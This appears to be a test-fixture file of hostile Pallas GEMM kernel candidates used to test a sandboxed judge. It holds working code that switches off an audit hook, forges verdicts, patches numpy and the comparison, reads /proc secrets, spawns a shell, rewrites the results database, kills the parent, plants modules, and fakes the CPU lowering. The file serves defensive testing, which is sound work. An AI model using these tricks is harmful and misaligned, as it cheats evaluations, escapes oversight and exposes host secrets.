"""Hostile candidates, one per attack class of docs/verification.md ("Threat model"), all for
workload 8p (GEMM: A [1024,2048] @ B [2048,1024] at CPU_CONFIG). Each is what a kernel module that
wants a `correct` it has not earned, or a way out of its evaluation, really does; none is
tailored to the implementation it is tested against beyond what a reader of the docs knows.

Where an attack needs something from the test (a host path, a port, a secret), the kernel is a
function of it. Attacks that report what they found print it: the candidate's stdout comes back
in the result, where the test looks for leaks.
"""
from judge_kernels import CORRECT, NUMERICS_MISMATCH, gemm

# Every kernel here is tiled in (256, 256) blocks, so that it fits v6e's VMEM at the full shapes
# too: with the compile tier on, the judge compiles each candidate for a v6e before it looks at
# anything else, and an attack must reach the defence it is meant to test, not fail that compile.

# A Pallas kernel that writes zeros: wrong unless the attack worked. (Attacks on the comparison
# itself use NUMERICS_MISMATCH, a real GEMM kernel 1.5x off, which only a patched comparison
# would pass.)
ZEROS = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

def _zeros(a_ref, b_ref, o_ref):
    o_ref[...] = jnp.zeros_like(o_ref)

def workload(A, B):
    M, N = A.shape[0], B.shape[1]
    return pl.pallas_call(
        _zeros, out_shape=jax.ShapeDtypeStruct((M, N), A.dtype), grid=(M // 256, N // 256),
        in_specs=[pl.BlockSpec((256, 256), lambda i, j: (i, 0)),
                  pl.BlockSpec((256, 256), lambda i, j: (0, j))],
        out_specs=pl.BlockSpec((256, 256), lambda i, j: (i, j)))(A, B)
'''

# A tiled copy kernel, the token Pallas of the attacks that compute elsewhere.
_COPY = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

def _copy(x_ref, o_ref):
    o_ref[...] = x_ref[...]

def _tiled_copy(x):
    spec = pl.BlockSpec((256, 256), lambda i, j: (i, j))
    return pl.pallas_call(_copy, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype),
                          grid=(x.shape[0] // 256, x.shape[1] // 256),
                          in_specs=[spec], out_specs=spec)(x)
'''

# Reaches the standard library behind lint's back (the audit hook still names the rule).
_BYPASS = '''
import glob as _g
_os = getattr(_g, "o" + "s")
_imp = vars(_os.sys.modules["builtins"])["__imp" + "ort__"]
_open = vars(_os.sys.modules["builtins"])["op" + "en"]
'''

# Switches the in-process audit hook off the way a candidate that read the docs would: find
# its state dict through gc. Afterwards only the OS sandbox stands.
_NO_HOOK = _BYPASS + '''
_gc = _imp("gc")
for _o in _gc.get_objects():
    if isinstance(_o, dict) and {"installed", "active", "violations"} <= set(_o):
        _o["active"] = 0
        _o["violations"] = []
'''

# 1. Forge the verdict: write a complete `correct` result to every fd it can, then leave.
FORGED_RESULT = ZEROS + _BYPASS + '''
_msgpack = _imp("msgpack")
_forged = {"type": "result", "version": 1, "ok": True, "stage": "numerics",
           "stage_ms": {"import": 1.0}, "stdout": "", "stderr": "",
           "artifacts": {"full": b"forged", "reduced": b"forged"},
           "check": {"outputs": [], "error": None, "violations": []},
           "verdict": "correct", "kernel_ms": 0.001, "baseline_ms": 2.6}
for _fd in range(3, 64):
    try:
        _os.write(_fd, _msgpack.packb(_forged, use_bin_type=True))
    except OSError:
        pass
_os._exit(0)
'''

# 2. Patch the judge: its comparison (found through gc and stack frames) and numpy's
#    primitives, then return zeros; the patches would also hit every later candidate.
PATCHES_THE_JUDGE = NUMERICS_MISMATCH + _NO_HOOK + '''
_np = _imp("numpy")
_sys = _os.sys
for _o in _gc.get_objects():
    try:
        if hasattr(_o, "_compare"):
            _o._compare = staticmethod(lambda *a, **k: None)
    except Exception:
        pass
_f = _sys._getframe()
while _f is not None:
    _f.f_globals.pop("_compare", None)
    _f = _f.f_back
_np.abs = lambda x, *a, **k: _np.zeros_like(_np.asarray(x, _np.float32))
_np.isnan = lambda x, *a, **k: _np.zeros(_np.shape(x), bool)
_np.linalg.norm = lambda *a, **k: 0.0
_np.allclose = lambda *a, **k: True
'''

# 3. Steal the references: search every live object and frame for an array of the output's
#    shape and return it through a Pallas copy.
STEALS_THE_REFERENCE = NUMERICS_MISMATCH.replace("def workload(A, B):",
                                                 "def _wrong_gemm(A, B):") + _NO_HOOK + _COPY + '''
_np = _imp("numpy")
_stolen = []
for _o in _gc.get_objects():
    try:
        if getattr(_o, "shape", None) == (1024, 1024):
            _stolen.append(_np.asarray(_o))
    except Exception:
        pass
print("stolen", len(_stolen))

def workload(A, B):
    shape = (A.shape[0], B.shape[1])
    found = [s for s in _stolen if s.shape == shape]
    return _tiled_copy(jnp.asarray(found[0], A.dtype)) if found else _wrong_gemm(A, B)
'''

# 4. Forge the timing: make every clock in the process run 1000x slower, then be correct.
PATCHES_THE_CLOCK = CORRECT + _NO_HOOK + '''
_time = _imp("time")
_real = _time.perf_counter
_time.perf_counter = lambda: _real() / 1000.0
_time.monotonic = lambda: _real() / 1000.0
_time.time = lambda: _real() / 1000.0
'''

# 5. A root shell through the one process-creation path without an audit event.
def fork_exec(marker_path):
    return ZEROS + _BYPASS + f'''
_ps = _imp("_posixsubprocess")
_args = ["/bin/sh", "-c", "echo escaped > {marker_path}"]
try:
    _ps.fork_exec(_args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
                  *(_os.pipe()), False, False, -1, None, None, None, -1, None, False)
except Exception as _e:
    print("fork_exec refused:", _e)
'''


# 6. The same after switching the audit hook off, with os.fork (a child that would linger).
FORK_WITHOUT_THE_HOOK = ZEROS + _NO_HOOK + '''
_pid = _os.fork()
if _pid == 0:
    _imp("time").sleep(600)
'''


# 7. Rewrite the run database with sqlite3, found through the agent's command line.
def rewrites_the_database(db_path):
    return ZEROS + _NO_HOOK + f'''
_sqlite3 = _imp("sqlite3")
_found = []
for _pid in _os.listdir("/proc"):
    try:
        with _open(f"/proc/{{_pid}}/cmdline", "rb") as _h:
            _found += [a.decode() for a in _h.read().split(b"\\0") if a.endswith(b".db")]
    except OSError:
        pass
print("databases found:", _found)
for _path in _found + [{db_path!r}]:
    try:
        _db = _sqlite3.connect(_path)
        _db.execute("UPDATE evaluations SET verdict = 'correct'")
        _db.commit()
        print("rewrote", _path)
    except Exception as _e:
        print("could not rewrite", _path, _e)
'''


# 8. Reach the network: the agent's loopback, after switching the hook off.
def connects(port):
    return ZEROS + _NO_HOOK + f'''
_socket = _imp("socket")
_s = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
_s.sendall(b"escaped")
'''


# 9. Read the agent's secrets: the environment, every /proc/<pid>/environ and cmdline.
READS_SECRETS = ZEROS + _NO_HOOK + '''
print("ENV", dict(_os.environ))
for _pid in _os.listdir("/proc"):
    for _name in ("environ", "cmdline"):
        try:
            with _open(f"/proc/{_pid}/{_name}", "rb") as _h:
                print("PROC", _pid, _name, _h.read().replace(b"\\0", b" ").decode("latin-1"))
        except OSError as _e:
            print("PROC", _pid, _name, "unreadable", _e.errno)
'''


# 10. Outlive the evaluation: a thread that keeps running after the result.
OUTLIVES_ITS_EVALUATION = CORRECT + _NO_HOOK + '''
def _linger():
    while True:
        pass
_imp("threading").Thread(target=_linger, daemon=True).start()
'''


# 11. Write outside: a file on the host, with the hook off.
def writes_outside(path):
    return ZEROS + _NO_HOOK + f'''
_np = _imp("numpy")
try:
    _np.save({path!r}, _np.zeros(3))
except Exception as _e:
    print("write refused:", _e)
'''


# 11b. Plant code for the next candidate: the sandbox's /tmp outlives one spare (the warm-spare
#      parent forks many), so write a module, and a stdlib name imported lazily, into /tmp, the
#      working directory and every writable directory on sys.path. IMPORTS_THE_PLANT, run next
#      in the same sandbox, must not find it.
PLANTS_A_MODULE = NUMERICS_MISMATCH + _NO_HOOK + '''
_sys = _os.sys
_plant = "print('PLANT RAN')\\nX = 1\\n"
_wrote = []
for _dir in {"/tmp", _os.getcwd(), *[_p or _os.getcwd() for _p in _sys.path]}:
    for _name in ("palladium_planted.py", "fractions.py", "statistics.py"):
        try:
            with _open(_os.path.join(_dir, _name), "w") as _f:
                _f.write(_plant)
            _wrote.append(_os.path.join(_dir, _name))
        except OSError:
            pass
print("planted", sorted(_wrote))
'''
IMPORTS_THE_PLANT = CORRECT + _BYPASS + '''
try:
    _imp("palladium_planted")
    print("plant imported")
except ImportError as _e:
    print("no plant:", _e)
'''


# 12. Import the workload module itself and return its baseline (lint sees the plain import;
#     the bypass is refused by the sandbox, which has no such module).
IMPORTS_THE_WORKLOAD = '''
from workloads import wl_8p

def workload(A, B):
    return wl_8p.workload(A, B)
'''
IMPORTS_THE_WORKLOAD_PAST_LINT = _BYPASS + '''
_wl = _imp("workloads.wl_8p", fromlist=["workload"])
workload = _wl.workload
'''
# ...or the candidate pipe's schema module, which the sandbox mounts for the runner.
IMPORTS_THE_PIPE_SCHEMA_PAST_LINT = _BYPASS + '''
_schema = _imp("palladium_pipe_schema")
workload = None
'''

# 13. Pallas for show: XLA does the GEMM, a token kernel copies the result.
XLA_BESIDE_A_COPY_KERNEL = _COPY + '''
def workload(A, B):
    return _tiled_copy(jnp.matmul(A, B))
'''
# ...or a kernel whose result is never used.
UNUSED_KERNEL = _COPY + '''
def workload(A, B):
    _tiled_copy(A)
    return jnp.matmul(A, B)
'''
# ...or one kept alive by adding zero times its result.
KERNEL_TIMES_ZERO = _COPY + '''
def workload(A, B):
    token = _tiled_copy(A)
    return jnp.matmul(A, B) + 0 * token.sum().astype(A.dtype)
'''

# 13b. Branch on the platform: the right answer where a CPU checks it, zeros where a TPU runs it.
PLATFORM_BRANCH_AROUND_A_KERNEL = ZEROS.replace("def workload(A, B):", "def _on_tpu(A, B):") + \
    '''
def workload(A, B):
    return jax.lax.platform_dependent(A, B, cpu=jnp.matmul, tpu=_on_tpu)
'''
# ...or a token kernel after XLA that is heavy only on a CPU.
HEAVY_ONLY_ON_CPU = _COPY + '''
def workload(A, B):
    out = jax.lax.platform_dependent(
        A, B, cpu=jnp.matmul, tpu=lambda a, b: jnp.zeros((a.shape[0], b.shape[1]), a.dtype))
    return _tiled_copy(out)
'''
# ...or a conditional on the data that never takes its kernel branch.
KERNEL_IN_A_BRANCH_NEVER_TAKEN = ZEROS.replace("def workload(A, B):", "def _kernel(A, B):") + \
    '''
def workload(A, B):
    return jax.lax.cond(A[0, 0] > 1e30, _kernel, jnp.matmul, A, B)
'''

# 14. Attack the parent and the spares: read their memory and fds, signal them.
READS_ITS_PARENT = ZEROS + _NO_HOOK + '''
for _what in ("mem", "environ", "fd"):
    try:
        _path = f"/proc/{_os.getppid()}/{_what}"
        if _what == "fd":
            print("parent fds", _os.listdir(_path))
        else:
            with _open(_path, "rb") as _h:
                print("read parent", _what, len(_h.read(16)))
    except OSError as _e:
        print("parent", _what, "unreadable", _e.errno)
'''
SIGNALS_ITS_PARENT = ZEROS + _NO_HOOK + '''
_os.kill(_os.getppid(), 9)
'''


# 15. Forge the CPU branch. The judge runs the reduced artifact's CPU branch (the harness's HLO
#     interpreter lowering of each pallas_call) on a CPU host; the TPU branch is the Mosaic kernel.
#     A module that rewrites that machinery in its own process, behind lint's back, can make the
#     CPU branch plain XLA computing the right answer while the kernel does nothing. Its own
#     interpret-mode check (traced under pltpu.force_tpu_interpret_mode) is answered in XLA too.
_FORGER = _BYPASS + '''
_sys = _os.sys
_mlir = _sys.modules["jax._src.interpreters.mlir"]
_cfg = _sys.modules["jax._src.config"]

def _in_the_interpret_check():
    return _cfg.pallas_tpu_interpret_mode_context_manager.value is not None

def _xla_gemm(a, b):
    return [jnp.matmul(a, b, preferred_element_type=jnp.float32).astype(a.dtype)]

def _forged_cpu_lowering(ctx, *in_nodes, **params):
    return _mlir.lower_fun(lambda a, b: _xla_gemm(a, b), multiple_results=True)(ctx, *in_nodes)

def _swap_the_cpu_lowering():
    # The harness registered one lowering rule for pallas_call that dispatches per platform;
    # its module (hidden from sys.modules) is still its globals.
    _pallas_call = _sys.modules["jax._src.pallas.pallas_call"]
    _rule = _mlir._lowerings[_pallas_call.pallas_call_p].rule
    _rule.__globals__["_cpu_lowering"] = _forged_cpu_lowering
'''

def _entry_beside(kernel_call):
    """A forgery's entry point, after _FORGER: the harness's CPU lowering swapped, XLA's GEMM
    for the candidate's own interpret check, and `kernel_call` on the path a TPU runs."""
    return f'''
_swap_the_cpu_lowering()

def workload(A, B):
    if _in_the_interpret_check():
        return _xla_gemm(A, B)[0]
    return {kernel_call}
'''


_ZEROS_KERNEL = ZEROS.replace("def workload(A, B):", "def _zeros_kernel(A, B):")

# 15a. The sys.modules swap of the harness's CPU lowering, a zeros kernel on the TPU.
FORGED_CPU_LOWERING = _ZEROS_KERNEL + _FORGER + _entry_beside("_zeros_kernel(A, B)")

# 15b. A copy kernel, and the CPU branch forged by patching JAX's own HLO interpreter (the
#      function the harness's CPU lowering calls), not the harness.
FORGED_HLO_INTERPRETER = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
''' + _FORGER + '''

def _copy(a_ref, b_ref, o_ref):
    o_ref[...] = a_ref[...]

def _copy_kernel(A, B):
    M, K = A.shape
    N = B.shape[1]
    return pl.pallas_call(
        _copy, out_shape=jax.ShapeDtypeStruct((M, N), A.dtype), grid=(M // 256, N // 256),
        in_specs=[pl.BlockSpec((256, 256), lambda i, j: (i, j % (K // 256))),
                  pl.BlockSpec((256, 256), lambda i, j: (0, j))],
        out_specs=pl.BlockSpec((256, 256), lambda i, j: (i, j)))(A, B)

_interp = _sys.modules["jax._src.pallas.hlo_interpreter"]
_interp.pallas_call_hlo_interpret = lambda *args, **params: _xla_gemm(*args[:2])

def workload(A, B):
    if _in_the_interpret_check():
        return _xla_gemm(A, B)[0]
    return _copy_kernel(A, B)
'''

# 15c. Make the Mosaic body look busy: the real GEMM sits in a `pl.when` that no grid step
#      takes (a count of the heaviest branch sees a full GEMM), the steps write zeros.
_GEMM_NEVER_RUN = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

def _idle(a_ref, b_ref, o_ref):
    o_ref[...] = jnp.zeros_like(o_ref)
    @pl.when(pl.program_id(0) >= (1 << 20))
    def _():
        o_ref[...] = jnp.dot(a_ref[...], b_ref[...],
                             preferred_element_type=jnp.float32).astype(o_ref.dtype)

def _idle_kernel(A, B):
    M, K = A.shape
    N = B.shape[1]
    return pl.pallas_call(
        _idle, out_shape=jax.ShapeDtypeStruct((M, N), A.dtype), grid=(M // 256, N // 256),
        in_specs=[pl.BlockSpec((256, K), lambda i, j: (i, 0)),
                  pl.BlockSpec((K, 256), lambda i, j: (0, j))],
        out_specs=pl.BlockSpec((256, 256), lambda i, j: (i, j)))(A, B)
'''
GEMM_IN_A_BRANCH_NO_STEP_TAKES = (_GEMM_NEVER_RUN + _FORGER +
                                  _entry_beside("_idle_kernel(A, B)"))

# 15d. ...or a GEMM the kernel computes into scratch memory that nothing reads.
_DEAD_GEMM = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
from jax.experimental.pallas import tpu as pltpu

def _busy(a_ref, b_ref, o_ref, scratch_ref):
    scratch_ref[...] = jnp.dot(a_ref[...], b_ref[...], preferred_element_type=jnp.float32)
    o_ref[...] = jnp.zeros_like(o_ref)

def _busy_kernel(A, B):
    M, K = A.shape
    N = B.shape[1]
    return pl.pallas_call(
        _busy, out_shape=jax.ShapeDtypeStruct((M, N), A.dtype), grid=(M // 256, N // 256),
        in_specs=[pl.BlockSpec((256, 512), lambda i, j: (i, 0)),
                  pl.BlockSpec((512, 256), lambda i, j: (0, j))],
        out_specs=pl.BlockSpec((256, 256), lambda i, j: (i, j)),
        scratch_shapes=[pltpu.VMEM((256, 256), jnp.float32)])(A, B)
'''
DEAD_GEMM_IN_SCRATCH = _DEAD_GEMM + _FORGER + _entry_beside("_busy_kernel(A, B)")

# 15e. Match the kernel's work instead: a kernel that does one multiply per output element, and
#      a forged CPU branch that computes the GEMM as rank-1 updates in a loop whose trip count
#      comes from the data (an XLA loop the judge can only count once), so the CPU branch's
#      countable work is the kernel's. The TPU runs the one multiply.
TOKEN_KERNEL_WITH_HIDDEN_CPU_WORK = ZEROS.replace(
    "o_ref[...] = jnp.zeros_like(o_ref)",
    "o_ref[...] = (a_ref[...] * 1.5 + a_ref[...]).astype(o_ref.dtype)").replace(
    "def workload(A, B):", "def _token_kernel(A, B):") + _FORGER + '''
def _rank1_gemm(a, b):
    k_steps = a.shape[1] + (a[0, 0] * 0).astype(jnp.int32)   # a trip count the data decides

    def body(state):
        k, acc = state
        col = jax.lax.dynamic_slice_in_dim(a, k, 1, axis=1).astype(jnp.float32)
        row = jax.lax.dynamic_slice_in_dim(b, k, 1, axis=0).astype(jnp.float32)
        return k + 1, acc + col * row
    _, acc = jax.lax.while_loop(lambda s: s[0] < k_steps, body,
                                (jnp.int32(0), jnp.zeros((a.shape[0], b.shape[1]), jnp.float32)))
    return [acc.astype(a.dtype)]

def _forged_cpu_lowering(ctx, *in_nodes, **params):
    return _mlir.lower_fun(lambda a, b: _rank1_gemm(a, b), multiple_results=True)(ctx, *in_nodes)
''' + _entry_beside("_token_kernel(A, B)")

# 15f. A kernel that does the GEMM's work and computes it 1.5x off, beside a forged CPU branch
#      with the same amount of work that computes it right: only the judge's own
#      interpretation of the kernel, or a TPU run, tells them apart.
_WRONG_GEMM = NUMERICS_MISMATCH.replace("def workload(A, B):", "def _wrong_gemm(A, B):")
WRONG_GEMM_BESIDE_A_FORGED_CPU_BRANCH = (_WRONG_GEMM + _FORGER +
                                         _entry_beside("_wrong_gemm(A, B)"))

# 15f'. The same forgery with XLA glue around the wrong kernel on the TPU path, so that a judge
#       that only knows the glue the project's kernels use would have nothing but the forged
#       CPU branch to check: a sort (run for the judge by XLA), a while loop (a fori_loop), and
#       random bits, whose algorithm is the backend's own and so cannot be computed off a TPU.
FORGED_CPU_BRANCH_BESIDE_A_SORT = _WRONG_GEMM + '''
def _behind_a_sort(A, B):
    out = _wrong_gemm(A, B)
    return out + jnp.sort(out[:1, :8], axis=1)[:, :1] * 0
''' + _FORGER + _entry_beside("_behind_a_sort(A, B)")
FORGED_CPU_BRANCH_BESIDE_A_WHILE_LOOP = _WRONG_GEMM + '''
def _behind_a_loop(A, B):
    out = _wrong_gemm(A, B)
    return jax.lax.fori_loop(0, jnp.int32(A.shape[0] // 256), lambda i, o: o * 1, out)
''' + _FORGER + _entry_beside("_behind_a_loop(A, B)")
FORGED_CPU_BRANCH_BESIDE_RANDOM_BITS = _WRONG_GEMM + '''
def _beside_random_bits(A, B):
    out = _wrong_gemm(A, B)
    _, bits = jax.lax.rng_bit_generator(jnp.zeros((4,), jnp.uint32), (1, 1), jnp.uint32)
    return out + (bits * 0).astype(out.dtype)
''' + _FORGER + _entry_beside("_beside_random_bits(A, B)")

# 15g. The same class, two more ways a kernel can do the GEMM's work and compute something
#      else: the GEMM written, then one output block overwritten with zeros...
_LAST_STORE = "        o_ref[...] = (acc_ref[...] * 1.0).astype(o_ref.dtype)\n"
GEMM_THEN_A_BLOCK_OVERWRITTEN = CORRECT.replace(
    _LAST_STORE, _LAST_STORE + '''    @pl.when((pl.program_id(0) == 1) & (pl.program_id(1) == 2))
    def _():
        o_ref[...] = jnp.zeros_like(o_ref)
''').replace("def workload(A, B):", "def _overwritten(A, B):") + _FORGER + \
    _entry_beside("_overwritten(A, B)")

# ...and `0 * GEMM` added to a copy of A's block: the matmul is live (arithmetic is not
#    folded), so its work counts, and the kernel returns A.
ZERO_TIMES_THE_GEMM_PLUS_A_COPY = CORRECT.replace(
    _LAST_STORE, "        o_ref[...] = (acc_ref[...] * 0.0 + a_ref[:, :o_ref.shape[1]]"
                 ".astype(jnp.float32)).astype(o_ref.dtype)\n").replace(
    "def workload(A, B):", "def _copy_of_a(A, B):") + _FORGER + _entry_beside("_copy_of_a(A, B)")

# ...and the GEMM computed from a DMA's destination before the DMA is waited on: what a TPU
#    reads there is the previous step's rows (or nothing), while a model of DMAs as immediate
#    copies would see the right ones.
READ_BEFORE_THE_DMA_LANDS = '''
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
from jax.experimental.pallas import tpu as pltpu

def _early(a_hbm, b_ref, o_ref, a_buf, sem):
    copy = pltpu.make_async_copy(a_hbm.at[pl.ds(pl.program_id(0) * 256, 256)], a_buf, sem)
    copy.start()
    o_ref[...] = jnp.dot(a_buf[...], b_ref[...],
                         preferred_element_type=jnp.float32).astype(o_ref.dtype)
    copy.wait()

def _early_kernel(A, B):
    M, K = A.shape
    N = B.shape[1]
    return pl.pallas_call(
        _early, out_shape=jax.ShapeDtypeStruct((M, N), A.dtype), grid=(M // 256, N // 256),
        in_specs=[pl.BlockSpec(memory_space=pl.ANY),
                  pl.BlockSpec((K, 256), lambda i, j: (0, j))],
        out_specs=pl.BlockSpec((256, 256), lambda i, j: (i, j)),
        scratch_shapes=[pltpu.VMEM((256, K), A.dtype), pltpu.SemaphoreType.DMA])(A, B)
''' + _FORGER + _entry_beside("_early_kernel(A, B)")

# 16. One program, one semantics (issue 21): the right GEMM on the CPU, zeros on a TPU, through a
#     gate computed by XLA glue that differs by platform where a numpy model of the TPU differs
#     from XLA:TPU. Each gate is 1 on the CPU branch and 0 on a TPU; a numpy model said 1.
_GATED = CORRECT.replace("def workload(A, B):", "def _gemm(A, B):") + '''
def workload(A, B):
    out = _gemm(A, B)
    probe = A[0, 0].astype(jnp.float32) * 0
    gate = jax.lax.platform_dependent(probe, cpu=lambda p: p + 1, tpu=_GATE)
    return (out.astype(jnp.float32) * gate).astype(out.dtype)
'''
# ...a float-to-int conversion: 3e9 saturates to INT32_MAX on a TPU (numpy: INT32_MIN)...
ZEROS_ON_A_TPU_BY_SATURATION = _GATED.replace(
    "_GATE", "lambda p: ((p + 3e9).astype(jnp.int32) < 0).astype(jnp.float32)")
# ...an integer division by zero: -1 on a TPU (numpy's look-alike: the dividend)...
ZEROS_ON_A_TPU_BY_DIVISION_BY_ZERO = _GATED.replace(
    "_GATE", "lambda p: (jax.lax.div(jnp.int32(7), p.astype(jnp.int32)) > 0).astype(jnp.float32)")
# ...a subnormal: 1e-20 squared is flushed to 0 on a TPU (numpy keeps 1e-40).
ZEROS_ON_A_TPU_BY_SUBNORMALS = _GATED.replace(
    "_GATE", "lambda p: (((p + 1e-20) * (p + 1e-20)) > 0).astype(jnp.float32)")

# 17. XLA work hidden in a loop the static count reads once (issue 21 item 3): the GEMM as
#     rank-256 updates in XLA, in a loop counting down or bound by the data, beside a token copy
#     kernel.
_GEMM_IN_A_LOOP = _COPY + '''
def _update(A, B, k, acc):
    a = jax.lax.dynamic_slice_in_dim(A, k * 256, 256, axis=1)
    b = jax.lax.dynamic_slice_in_dim(B, k * 256, 256, axis=0)
    return acc + jnp.dot(a, b, preferred_element_type=jnp.float32)

def workload(A, B):
    M, K = A.shape
    acc = jnp.zeros((M, B.shape[1]), jnp.float32)
    LOOP
    return _tiled_copy(acc.astype(A.dtype))
'''
XLA_GEMM_IN_A_COUNT_DOWN_LOOP = _GEMM_IN_A_LOOP.replace("LOOP", '''_, acc = jax.lax.while_loop(
        lambda s: s[0] > 0, lambda s: (s[0] - 1, _update(A, B, s[0] - 1, s[1])),
        (jnp.int32(K // 256), acc))''')
XLA_GEMM_IN_A_DATA_BOUND_LOOP = _GEMM_IN_A_LOOP.replace("LOOP", '''n = K // 256 + (A[0, 0] * 0).astype(
        jnp.int32)
    _, acc = jax.lax.while_loop(
        lambda s: s[0] < n, lambda s: (s[0] + 1, _update(A, B, s[0], s[1])),
        (jnp.int32(0), acc))''')

# 18. An honest GEMM kernel (its Mosaic body computes the GEMM; every check passes), and the CPU
#     branch it ships built from XLA's own GEMM by patching JAX's HLO interpreter (the function
#     the harness's CPU lowering calls) in the candidate's process. Timing that branch made the
#     same kernel 6-8x "faster" (issue 21): the judge times its own interpretation instead.
#     Its blocks are large (a 4x4x4 grid), so that the judge's interpretation stays cheap.
HONEST_GEMM_IN_LARGE_BLOCKS = gemm(blocks="(256, 256, 512)")
FAST_CPU_BRANCH_BESIDE_AN_HONEST_KERNEL = HONEST_GEMM_IN_LARGE_BLOCKS + _FORGER + '''
_interp = _sys.modules["jax._src.pallas.hlo_interpreter"]
_interp.pallas_call_hlo_interpret = lambda *args, **params: _xla_gemm(*args[:2])
'''
